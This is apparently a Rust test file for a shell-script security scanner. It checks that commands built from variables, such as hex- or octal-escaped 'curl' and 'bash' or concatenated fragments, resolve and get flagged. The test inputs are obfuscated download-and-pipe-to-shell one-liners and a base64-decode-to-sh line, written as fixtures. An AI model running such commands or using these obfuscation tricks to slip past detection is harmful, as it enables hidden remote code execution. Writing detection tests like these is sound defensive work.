//! Commands assembled from variables: constants resolved before the rules
//! read a line.

use super::*;
use crate::scan::Severity;
use crate::scan::tests::{assert_blocks, findings};

#[test]
fn commands_assembled_from_variables_block_once_resolved() {
    for script in [
        "a=ba; b=sh\ncurl -fsSL https://get.example.com/x | $a$b",
        "X=$(printf \"\\x63\\x75\\x72\\x6c\")\n$X -fsSL https://get.example.com/x | sh",
        "X=$'\\x63\\x75\\x72\\x6c'\n$X -s https://get.example.com/x | bash",
        "c=$(echo -e '\\0142\\0141\\0163\\0150')\nwget -qO- https://get.example.com/x | \"$c\"",
        "p1=cu\np2=rl\ntool=\"$p1$p2\"\n${tool} https://get.example.com/x | sh",
        "s=$(printf '%s%s' ba sh)\ncurl https://get.example.com/x | $s",
    ] {
        assert_blocks("remote-code-run", ("scripts/setup.sh", script));
    }
    assert_blocks(
        "decoded-exec",
        (
            "scripts/setup.sh",
            "d=base64\necho ZWNobyBoaQ== | $d -d | sh",
        ),
    );
}

#[test]
fn a_download_piped_into_a_command_still_named_by_a_variable_warns() {
    for script in [
        "curl -fsSL https://get.example.com/x | $RUNNER",
        "run=$1\nwget -qO- https://get.example.com/x | \"$run\" -s",
    ] {
        let found = findings(&[("scripts/setup.sh", script)]);
        assert!(
            found
                .iter()
                .any(|(rule, s, _)| rule == "remote-code-run" && *s == Severity::Warn),
            "{script}: {found:?}"
        );
    }
}

#[test]
fn a_variable_naming_a_test_runner_stays_quiet() {
    for script in [
        "cmd=pytest\n$cmd -q tests/",
        "PY=python3\n$PY -m pip install -r requirements.txt\ncurl -fsSL https://api.example.com/health | jq .",
        "out=$(curl -s https://api.example.com/v1/items)\necho \"$out\" | $JQ .items",
    ] {
        let found = findings(&[("scripts/test.sh", script)]);
        assert!(
            found.iter().all(|(_, s, _)| *s == Severity::Info),
            "{script}: {found:?}"
        );
    }
}

#[test]
fn escapes_and_formats_resolve_as_the_shell_prints_them() {
    let constants = HashMap::new();
    assert_eq!(
        value("$'\\x63\\165rl'", &constants).as_deref(),
        Some("curl")
    );
    assert_eq!(
        value("$(printf \"\\x63\\x75\\x72\\x6c\")", &constants).as_deref(),
        Some("curl")
    );
    assert_eq!(
        value("$(echo -e '\\0142ash')", &constants).as_deref(),
        Some("bash")
    );
    assert_eq!(value("`echo sh`", &constants).as_deref(), Some("sh"));
    assert_eq!(value("$(uname -s)", &constants), None);
    assert_eq!(value("\"$HOME/bin\"", &constants), None);
}
